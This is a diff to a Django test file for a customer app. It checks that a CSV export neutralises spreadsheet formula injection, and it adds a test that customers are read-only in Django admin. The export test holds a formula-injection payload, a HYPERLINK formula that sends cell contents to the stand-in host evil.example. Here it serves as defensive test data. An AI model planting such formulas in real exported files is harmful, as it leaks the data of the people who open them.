@@ -76,7 +76,7 @@ class TestList:
         response = console.get("/customers/", {"sort": "name", "export": "csv"})
         rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
         assert [(r[0], r[3]) for r in rows[1:]] == [
-            ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'-x@example.com"),
+            ('\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'-x@example.com"),
             ("'@SUM(1+1)", ""),
         ]
 
@@ -140,3 +140,22 @@ class TestDetail:
         assert response.status_code == 400
         assert "A customer with phone +79123456789 already exists." in response.content.decode()
         assert Customer.objects.get(pk=boris.pk).phone == "+79001112233"
+
+
+class TestDjangoAdmin:
+    """Django admin never writes around the services (issue #11): customers are read-only there."""
+
+    def test_a_superuser_cannot_change_a_customer_in_admin(self, client, superuser, customer, customer_factory):
+        other = customer_factory(name="Boris", phone="+7 900 111-22-33")
+        client.force_login(superuser)
+        page = client.get(f"/admin/customers/customer/{customer.pk}/change/")
+        assert page.status_code == 200 and "Anna Petrova" in page.content.decode()
+        response = client.post(
+            f"/admin/customers/customer/{customer.pk}/change/",
+            {"name": "Anna", "phone": " 79001112233", "card_number": customer.card_number},
+        )
+        assert response.status_code == 403
+        customer.refresh_from_db()
+        assert (customer.name, customer.phone) == ("Anna Petrova", "+79123456789")
+        assert other.phone == "+79001112233"
+        assert not AuditEntry.objects.filter(action="customer.update").exists()
